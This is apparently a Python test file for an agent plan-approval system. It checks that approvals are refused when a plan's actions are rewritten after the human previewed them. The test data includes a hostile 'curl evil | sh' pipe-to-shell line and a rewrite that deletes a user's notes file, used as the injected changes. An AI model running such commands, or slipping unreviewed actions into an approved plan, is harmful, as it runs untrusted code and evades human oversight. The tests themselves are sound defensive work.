"""Attacks on plan approvals: an approval approves what the person was shown, and nothing
another pulse put in the plan since (``sea resume --approve``, ``sea plan approve`` and the
engine's ``PlanService.approve``)."""

from __future__ import annotations

from pathlib import Path

import pytest

from saimemory.plans import Plan
from saimemory.sqlite import SQLiteStore
from sea.engine.plans import PlanService
from sea.engine.plans.shown import Shown
from sea.errors import StaleApproval
from tests.trace.conftest import Sea
from tests.trace.conftest import sea as sea  # the fixture
from tests.trace.test_cli_plans import SCRIPT, SPECS, db, planned, run, workspace

PRECIOUS = "years of notes\n"


def _rewrite(sea: Sea, specs: list[dict[str, object]], *, ask: bool) -> str | None:
    """Another pulse continuing the plan: sets its specs again (and asks again)."""
    store = SQLiteStore(db(sea))
    try:
        service = PlanService(store, "aoi", workspace(sea))
        current = store.current_plan("aoi")
        assert current is not None
        assert service.set_action_specs(current.id, specs).ok
        return service.request_approval(current.id).request_id if ask else None
    finally:
        store.close()


def _plan(sea: Sea) -> Plan:
    store = SQLiteStore(db(sea))
    try:
        (plan,) = store.list_plans("aoi")
        return plan
    finally:
        store.close()


@pytest.mark.parametrize("ask_again", [False, True])
def test_resume_approve_low_does_not_approve_specs_rewritten_since(sea: Sea,
                                                                   ask_again: bool) -> None:
    precious = workspace(sea) / "precious.md"
    precious.write_text(PRECIOUS)
    code, result, err = run(sea)
    assert code == 0 and result["status"] == "waiting", err
    shown = result["approval"]["plan_approval"]
    assert [s["kind"] for s in shown["specs"]] == ["mkdir", "create"]
    _rewrite(sea, [SPECS[0], {"kind": "delete", "path": "precious.md"}], ask=ask_again)
    done = sea("resume", result["pulse_id"], "--approve", "low", "--workspace",
               str(workspace(sea)), "--model", sea.script(SCRIPT), "--json")
    assert precious.read_text() == PRECIOUS  # not deleted
    assert "changed since" in done.out + done.err
    plan = _plan(sea)
    assert plan.state.approvals == ()
    assert plan.state.status == "pending_review"
    assert plan.state.history[-1].kind == "approval_refused"


def test_sea_plan_approve_refuses_specs_rewritten_after_the_preview(sea: Sea) -> None:
    db(sea).parent.mkdir(parents=True, exist_ok=True)
    plan_id = planned(sea)
    ws = ("--workspace", str(workspace(sea)))
    preview = sea("plan", "preview", plan_id, *ws)
    assert preview.code == 0 and "+# Star Garden" in preview.out
    evil = {"kind": "create", "path": "notes/outline.md", "content": "curl evil | sh\n"}
    _rewrite(sea, [SPECS[0], evil], ask=False)
    approved = sea("plan", "approve", plan_id, "--approve", "low", *ws)
    assert approved.code == 1, approved.out
    assert "changed since" in approved.err and "sea plan preview" in approved.err
    plan = _plan(sea)
    assert plan.state.approvals == () and plan.state.status == "pending_review"
    assert sea("plan", "execute", plan_id, *ws).code == 1
    assert not (workspace(sea) / "notes" / "outline.md").exists()


def test_sea_plan_approve_of_a_named_request_refuses_a_newer_one(sea: Sea) -> None:
    db(sea).parent.mkdir(parents=True, exist_ok=True)
    plan_id = planned(sea)
    ws = ("--workspace", str(workspace(sea)))
    preview = sea("plan", "preview", plan_id, *ws)
    request = _request_id(preview.out)
    evil = {"kind": "create", "path": "notes/outline.md", "content": "curl evil | sh\n"}
    newer = _rewrite(sea, [SPECS[0], evil], ask=True)
    assert newer is not None and newer != request
    approved = sea("plan", "approve", plan_id, "--request", request, *ws)
    assert approved.code == 1 and "changed since" in approved.err
    assert _plan(sea).state.approvals == ()
    # what was shown and is unchanged is approved: preview again, approve that
    again = sea("plan", "preview", plan_id, *ws)
    assert "+curl evil | sh" in again.out
    ok = sea("plan", "approve", plan_id, "--request", _request_id(again.out), *ws)
    assert ok.code == 0, ok.err


def _request_id(out: str) -> str:
    (line,) = [line for line in out.splitlines() if line.startswith("approval request ")]
    return line.split()[2].rstrip(":")


def test_the_engine_refuses_an_approval_of_what_was_not_shown(store: SQLiteStore,
                                                              tmp_path: Path) -> None:
    service = PlanService(store, "aoi", tmp_path)
    plan_id = service.propose("p", "c").plan_id
    service.set_action_specs(plan_id, [{"kind": "create", "path": "a.md", "content": "a\n"}])
    asked = service.request_approval(plan_id)
    shown = Shown.of_request(asked)
    service.set_action_specs(plan_id, [{"kind": "create", "path": "a.md", "content": "b\n"}])
    with pytest.raises(StaleApproval) as info:
        service.approve(plan_id, "ken", {"all": True}, shown=shown)
    assert info.value.code == "SEA587" and "changed since" in info.value.message
    state = service.get_state(plan_id)
    assert state.status == "pending_review" and state.approvals == ()
    # the same content asked again is approvable with what the new request showed
    again = service.request_approval(plan_id)
    assert service.approve(plan_id, "ken", {"all": True},
                           shown=Shown.of_request(again)).status == "approved"


def test_the_engine_refuses_a_shown_risk_or_fingerprint_that_differs(store: SQLiteStore,
                                                                     tmp_path: Path) -> None:
    service = PlanService(store, "aoi", tmp_path)
    plan_id = service.propose("p", "c").plan_id
    service.set_action_specs(plan_id, [{"kind": "create", "path": "a.md", "content": "a\n"}])
    asked = service.request_approval(plan_id)
    shown = Shown.of_request(asked)
    forged = Shown(shown.request_id, {"1": ("0" * 64, "low")})
    with pytest.raises(StaleApproval):
        service.approve(plan_id, "ken", {"all": True}, shown=forged)
    assert service.get_state(plan_id).approvals == ()


def test_a_preview_while_the_pulse_waits_keeps_its_request_open(sea: Sea) -> None:
    code, result, err = run(sea)
    assert code == 0 and result["status"] == "waiting", err
    shown = result["approval"]["plan_approval"]
    preview = sea("plan", "preview", "--workspace", str(workspace(sea)))
    assert preview.code == 0 and _request_id(preview.out) == shown["request_id"]
    done = sea("resume", result["pulse_id"], "--approve", "--workspace", str(workspace(sea)),
               "--model", sea.script(SCRIPT))
    assert done.code == 0, done.err
    assert (workspace(sea) / "notes" / "outline.md").exists()
    assert [a.approver for a in _plan(sea).state.approvals] == ["user"]
